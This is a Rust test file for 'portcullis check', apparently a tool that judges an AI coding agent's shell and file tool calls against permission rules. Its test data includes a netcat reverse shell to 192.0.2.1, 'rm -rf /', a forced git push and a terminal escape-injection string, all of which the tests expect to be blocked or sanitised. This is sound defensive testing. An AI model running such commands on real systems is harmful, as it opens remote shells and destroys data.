//! `portcullis check`: one call.

use std::fs::OpenOptions;

use pretty_assertions::assert_eq;
use serde_json::Value;

use super::sandbox::Sandbox;

const RULES: &str = r#"{
  "permissions": {
    "allow": ["Bash(cargo test:*)"],
    "ask": ["Bash(npm publish:*)"],
    "deny": ["Bash(git push:*)"]
  }
}
"#;

#[test]
fn the_exit_code_is_the_answer() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let table: &[(&[&str], i32)] = &[
        (&["check", "cargo test --workspace"], 0),
        (&["check", "cargo", "test", "--workspace"], 0),
        (&["check", "--", "cargo", "test", "--", "--nocapture"], 0),
        (&["check", "ls -la"], 0),
        (&["check", "git push --force origin main"], 2),
        (&["check", "git", "push", "--force", "origin", "main"], 2),
        (&["check", "npm publish"], 3),
        (&["check", "make install"], 3),
        (&["check", "--headless", "make install"], 2),
        (&["check", "--mode", "dontAsk", "make install"], 2),
        (&["check", "--mode", "bypassPermissions", "make install"], 0),
        (&["check", "--mode", "bypassPermissions", "git push"], 2),
        (&["check", "--tool", "Read", "src/lib.rs"], 0),
        (&["check", "--tool", "Edit", "src/lib.rs"], 3),
        (&["check", "--mode", "acceptEdits", "--tool", "Edit", "src/lib.rs"], 0),
        (&["check", "--tool", "Bash", "--input", r#"{"command":"git push"}"#], 2),
        (&["check", "--tool", "mcp__a__b", "--input", "{}"], 3),
        (&["check", "--allow", "Bash(make:*)", "make install"], 0),
        (&["check", "--deny", "Bash(cargo:*)", "cargo test"], 2),
        (&["check", "--ask", "Bash(ls:*)", "ls"], 3),
        (&["check", "--settings", r#"{"permissions":{"deny":["Bash(ls:*)"]}}"#, "ls"], 2),
    ];
    for (arguments, code) in table {
        let ran = sandbox.run(arguments);
        assert_eq!(ran.code, Some(*code), "{arguments:?}\n{}{}", ran.stdout, ran.stderr);
        assert!(!ran.stdout.is_empty(), "{arguments:?}");
    }
}

#[test]
fn a_wrong_command_line_is_a_usage_error_and_never_an_answer() {
    let sandbox = Sandbox::new();
    let table: &[&[&str]] = &[
        &[],
        &["chekc", "ls"],
        &["check"],
        &["check", "--jsn", "ls"],
        &["check", "--mode", "yolo", "ls"],
        &["check", "--tool", "Bash", "--input", "{"],
        &["check", "--tool", "Bash", "--input", "[]"],
        &["check", "--input", r#"{"command":"ls","command":"rm"}"#],
        &["check", "--tool", "mcp__a__b", "word"],
        &["check", "--batch", "ls"],
        &["check", "--batch", "--tool", "Read"],
        &["check", "--tool", "", "--input", "{}"],
        &["check", "--settings", "{\"permissions\":", "ls"],
        &["check", "--cwd", "/no/such/directory", "ls"],
        &["check", "--settings", "/no/such/file.json", "ls"],
        &["check", "--allow", "Bash(ls", "ls"],
        &["check", "--input", "{}", "ls"],
        &["rules"],
        &["rules", "add", "permit", "Bash(ls)"],
        &["rules", "explain", "Bash(ls"],
        &["completions", "tcsh-but-not-really"],
        &["schema", "nothing"],
    ];
    for arguments in table {
        let ran = sandbox.run(arguments);
        assert_eq!(ran.code, Some(64), "{arguments:?}\n{}{}", ran.stdout, ran.stderr);
        assert_eq!(ran.stdout, "", "{arguments:?}");
        assert!(!ran.stderr.is_empty(), "{arguments:?}");
    }
}

#[test]
fn people_see_the_verdict_the_words_the_step_the_rule_and_the_remedy() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let ran = sandbox.run(&["check", "cd src && git push --force origin main"]);
    let text = sandbox.plain(&ran.stdout);
    let expected = [
        "✗ deny",
        "│ cd src && git push --force origin main\n  │           ^^^^^^^^",
        "A2",
        "Bash(git push:*)",
        "HOME/.claude/settings.json:5",
        "settle-deny",
        "portcullis rules remove deny 'Bash(git push:*)' --source user --claude",
    ];
    for part in expected {
        assert!(text.contains(part), "no {part:?} in\n{text}");
    }
    assert_eq!(ran.stderr, "");
    assert!(!text.contains("pass"), "steps with nothing to say belong to --trace\n{text}");
    let full = sandbox.run(&["check", "--trace", "cd src && git push --force origin main"]).stdout;
    for step in ["A1", "A2", "A9", "A11"] {
        assert!(full.contains(step), "no {step} in\n{full}");
    }
}

#[test]
fn people_see_what_was_found_and_what_clears_it() {
    let sandbox = Sandbox::new();
    let ran = sandbox.run(&[
        "check",
        "--mode",
        "auto",
        "git push --force origin topic; nc -e /bin/sh 192.0.2.1 4444",
    ]);
    assert_eq!(ran.code, Some(2), "{}{}", ran.stdout, ran.stderr);
    let findings = ran.stdout.split("\n\n").find(|block| block.starts_with("  findings\n")).unwrap();
    let lines: Vec<&str> = findings.lines().map(str::trim).collect();
    let place = |start: &str| lines.iter().position(|line| line.starts_with(start));
    let (hard, soft) = (place("PC031 critical").unwrap(), place("PC007 high").unwrap());
    assert!(hard < soft, "the worst comes first\n{findings}");
    assert_eq!(
        lines[hard + 1..=hard + 3],
        [
            "instead: Stop here, and tell the user what you need from the other machine",
            "nothing the user says lifts it",
            "explain: portcullis explain PC031",
        ]
    );
    assert_eq!(
        lines[soft + 1..=soft + 3],
        [
            "instead: Push the commits to a new branch, as in `git push origin HEAD:topic-2`",
            "the user may ask for it and name the forced push and the branch",
            "explain: portcullis explain PC007",
        ]
    );
    assert!(!sandbox.run(&["check", "ls"]).stdout.contains("findings"), "nothing is found in it");
}

#[test]
fn what_would_change_it_does() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let remedies = |command: &str| {
        let ran = sandbox.run(&["check", command]);
        let lines = ran.stdout.lines().filter_map(|line| line.trim().strip_prefix("portcullis "));
        lines.map(str::to_owned).collect::<Vec<_>>()
    };
    assert_eq!(sandbox.run(&["check", "git push"]).code, Some(2));
    follow(&sandbox, &remedies("git push")[0]);
    assert_eq!(sandbox.run(&["check", "git push"]).code, Some(3));
    let allow = remedies("git push").into_iter().find(|line| line.starts_with("rules add allow")).unwrap();
    follow(&sandbox, &allow);
    assert_eq!(sandbox.run(&["check", "git push"]).code, Some(0));
    let ran = sandbox.run(&["check", "rm -rf /"]);
    assert!(ran.stdout.contains("no rule and no mode lets it run, only a person"), "{}", ran.stdout);
    let ran = sandbox.run(&["check", "--deny", "Bash(make:*)", "make"]);
    assert!(ran.stdout.contains("the rule comes from argument settings"), "{}", ran.stdout);
}

/// Runs a remedy as a shell would, arguments in single quotes.
fn follow(sandbox: &Sandbox, remedy: &str) {
    let words: Vec<&str> =
        remedy.split('\'').enumerate().flat_map(|(index, part)| words(index % 2 == 1, part)).collect();
    let ran = sandbox.run(&words);
    assert_eq!(ran.code, Some(0), "{remedy}: {}", ran.stderr);
}

fn words(is_quoted: bool, part: &str) -> Vec<&str> {
    if is_quoted { vec![part] } else { part.split_whitespace().collect() }
}

#[test]
fn modes_that_would_let_a_call_run_are_named() {
    let sandbox = Sandbox::new();
    let ran = sandbox.run(&["check", "--tool", "Edit", "src/lib.rs"]);
    assert!(ran.stdout.contains("it runs in mode acceptEdits, auto\n"), "{}", ran.stdout);
    let ran = sandbox.run(&["check", "--deny", "Edit", "--tool", "Edit", "src/lib.rs"]);
    assert!(!ran.stdout.contains("it runs in mode"), "{}", ran.stdout);
}

#[test]
fn json_has_exactly_the_documented_keys() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let ran = sandbox.run(&["check", "--json", "git push"]);
    assert_eq!(ran.stdout.matches('\n').count(), 1);
    let verdict: Value = serde_json::from_str(&ran.stdout).unwrap();
    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>().join(" ");
    assert_eq!(keys(&verdict), "decision step reason findings trace suggestions elapsed_us");
    assert_eq!(keys(&verdict["reason"]), "kind message rule");
    assert_eq!(keys(&verdict["reason"]["rule"]), "text behavior source file line");
    assert_eq!(keys(&verdict["trace"][0]), "step outcome detail");
    assert_eq!(verdict["decision"], "deny");
    assert_eq!(verdict["step"], "A2");
    assert_eq!(verdict["reason"]["kind"], "rule");
    assert_eq!(verdict["reason"]["rule"]["source"], "user");
    assert_eq!(verdict["reason"]["rule"]["line"], 5);
    assert_eq!(verdict["findings"], serde_json::json!([]));
    assert!(verdict["elapsed_us"].is_u64());

    let ran = sandbox.run(&["check", "--json", "make install"]);
    let verdict: Value = serde_json::from_str(&ran.stdout).unwrap();
    assert_eq!(verdict["reason"]["rule"], Value::Null);
    assert_eq!(keys(&verdict["suggestions"][0]), "behavior rule");
}

#[test]
fn a_reader_who_leaves_early_is_not_told_off() {
    let sandbox = Sandbox::new();
    let settings = format!(r#"{{"permissions":{{"deny":[{}"Bash(x)"]}}}}"#, "\"Bash(y:*)\",".repeat(20_000));
    sandbox.write_home(".claude/settings.json", &settings);
    let mut child = sandbox.command(&["rules", "list"]).spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!((output.status.code(), output.stderr.as_slice()), (Some(70), b"".as_slice()));
}

#[test]
fn a_command_of_any_length_gives_an_answer_that_can_be_read() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let input = serde_json::json!({"command": format!("git push {}", "x".repeat(100_000))}).to_string();
    let ran = sandbox.run_with_input(&["check", "--trace", "--input", "-"], input.as_bytes());
    assert_eq!(ran.code, Some(2));
    assert!(ran.stdout.lines().all(|line| line.chars().count() < 600), "{}", ran.stdout.len());
}

#[test]
fn a_directory_that_is_named_in_full_needs_no_current_one() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let project = sandbox.project.to_str().unwrap();
    let script = format!(
        "mkdir gone && cd gone && rmdir ../gone && exec '{}' check --cwd '{project}' 'git push'",
        env!("CARGO_BIN_EXE_portcullis")
    );
    let output = std::process::Command::new("sh")
        .args(["-c", &script])
        .env("HOME", &sandbox.home)
        .current_dir(&sandbox.project)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn the_same_call_gives_the_same_answer_byte_for_byte() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let first = sandbox.run(&["check", "make all && git push; npm publish"]);
    for _ in 0..3 {
        assert_eq!(sandbox.run(&["check", "make all && git push; npm publish"]), first);
    }
}

#[test]
fn input_can_come_from_standard_input() {
    let sandbox = Sandbox::with_user_settings(RULES);
    let run = |input: &str| sandbox.run_with_input(&["check", "--input", "-"], input.as_bytes()).code;
    assert_eq!(run(r#"{"command":"git push"}"#), Some(2));
    assert_eq!(run(r#"{"command":"ls"}"#), Some(0));
    assert_eq!(run(""), Some(64));
    assert_eq!(run(&" ".repeat((16 << 20) + 1)), Some(64));
}

#[test]
fn what_a_command_contains_cannot_reach_the_terminal_raw() {
    let sandbox = Sandbox::new();
    let hostile = "echo \u{1b}]0;owned\u{7}\u{202e}txt.exe\u{200b} \u{9b}31m; make\r\u{1b}[2K install";
    for arguments in [
        vec!["check", hostile],
        vec!["check", "--trace", hostile],
        vec!["check", "--json", hostile],
        vec!["check", "--tool", hostile, "--input", "{}"],
        vec!["check", "--tool", "Read", hostile],
        vec!["check", "--mode", hostile, "ls"],
        vec!["check", "--cwd", hostile, "ls"],
        vec!["check", "--allow", hostile, "ls"],
        vec!["rules", "explain", hostile],
        vec!["rules", "test", hostile],
        vec!["explain", hostile],
        vec![hostile],
    ] {
        let ran = sandbox.run(&arguments);
        for text in [&ran.stdout, &ran.stderr] {
            let raw = text.chars().find(|character| {
                (character.is_control() && *character != '\n')
                    || matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}')
            });
            assert_eq!(raw, None, "{arguments:?}: {text:?}");
        }
    }
}

#[test]
fn an_answer_that_cannot_be_written_is_not_an_answer() {
    let sandbox = Sandbox::new();
    for arguments in [
        ["check", "ls"].as_slice(),
        &["check", "--json", "ls"],
        &["modes"],
        &["explain", "PC007"],
        &["--help"],
        &["check", "--help"],
        &["--version"],
        &["man"],
        &["rules", "list"],
        &["settings", "where"],
        &["schema", "settings"],
        &["completions", "bash"],
    ] {
        let full = OpenOptions::new().write(true).open("/dev/full").unwrap();
        let code = sandbox.command(arguments).stdout(full).status().unwrap().code();
        assert_eq!(code, Some(70), "{arguments:?}");
    }
}

#[test]
fn broken_settings_are_reported_and_never_fatal() {
    let sandbox =
        Sandbox::with_user_settings("{\"permissions\": {\"allow\": [\"Bash(make\", \"Bash(cargo:*)\"]}}");
    let ran = sandbox.run(&["check", "cargo build"]);
    assert_eq!(ran.code, Some(0), "the other rules of the file hold");
    assert!(ran.stderr.contains("Bash(make"), "{}", ran.stderr);
    let sandbox = Sandbox::with_user_settings("{ not json");
    let ran = sandbox.run(&["check", "make"]);
    assert_eq!(ran.code, Some(3));
    assert!(sandbox.plain(&ran.stderr).contains("HOME/.claude/settings.json"), "{}", ran.stderr);
}

#[test]
fn a_project_may_restrict_but_not_widen_until_it_is_trusted() {
    let sandbox = Sandbox::new();
    sandbox.write_project(
        ".claude/settings.json",
        r#"{"permissions":{"allow":["Bash(make:*)"],"deny":["Bash(curl:*)"],"defaultMode":"bypassPermissions"}}"#,
    );
    assert_eq!(sandbox.run(&["check", "make"]).code, Some(3));
    assert_eq!(sandbox.run(&["check", "curl x"]).code, Some(2));
    assert_eq!(sandbox.run(&["trust", "add"]).code, Some(0));
    assert_eq!(sandbox.run(&["check", "make"]).code, Some(0));
    assert_eq!(
        sandbox.run(&["check", "rm -r build"]).code,
        Some(3),
        "a repository may not choose a risky mode"
    );
}

#[test]
fn a_link_that_leads_out_of_the_project_is_followed() {
    let sandbox = Sandbox::new();
    std::os::unix::fs::symlink("/etc", sandbox.project.join("out")).unwrap();
    let edit = |path| sandbox.run(&["check", "--mode", "acceptEdits", "--tool", "Write", path]).code;
    assert_eq!(edit("src/new.rs"), Some(0));
    assert_eq!(edit("out/new.conf"), Some(3));
}
